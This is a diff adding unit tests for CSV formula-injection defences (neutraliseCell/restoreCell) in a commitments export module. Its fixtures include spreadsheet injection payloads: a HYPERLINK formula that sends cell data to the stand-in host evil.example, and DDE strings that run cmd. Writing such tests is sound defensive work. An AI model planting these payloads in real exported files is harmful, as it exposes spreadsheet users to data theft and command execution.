@@ -1,5 +1,5 @@
 import { COMMITMENT_CSV_COLUMNS, CommitmentSummaryDto } from '@pactwatch/shared/contracts';
-import { checkHeader, parseRow, toCsvRecord } from './csv-format';
+import { checkHeader, neutraliseCell, parseRow, restoreCell, toCsvRecord } from './csv-format';
 
 const header = [...COMMITMENT_CSV_COLUMNS];
 
@@ -135,6 +135,32 @@ describe('commitments CSV format', () => {
       deadline: { kind: 'absolute', date: '2026-12-31', precision: 'year' },
       status: 'at_risk',
       progress: 40,
+    });
+  });
+
+  describe('formula cells', () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A0"];
+
+    it('prefixes every cell a spreadsheet could run with an apostrophe', () => {
+      for (const value of [...payloads, '-2+3', '\tx', '\rx', '  =1+1', '＝1+1', "'quoted"])
+        expect(neutraliseCell(value)).toBe(`'${value}`);
+    });
+
+    it('leaves ordinary text, numbers, dates and durations alone', () => {
+      for (const value of ['Draft the charter', '50', '2026-02-08', 'P6M', 'AZ;US', 'It’s done', 'x=1', ''])
+        expect(neutraliseCell(value)).toBe(value);
+    });
+
+    it('reads every exported value back exactly, apostrophes included', () => {
+      for (const value of [...payloads, '-2+3', '\t=x', "'", "''x", "' =x", 'plain', "don't"])
+        expect(restoreCell(neutraliseCell(value))).toBe(value);
+    });
+
+    it('imports a neutralised title as the original text', () => {
+      const { draft, errors } = parseRow(header, row({ ref_code: 'X-1', title: `'${payloads[0]}`, agreement: "''Quoted agreement" }), 2);
+      expect(errors).toEqual([]);
+      expect(draft?.title).toBe(payloads[0]);
+      expect(draft?.agreement.title).toBe("'Quoted agreement");
     });
   });
 });
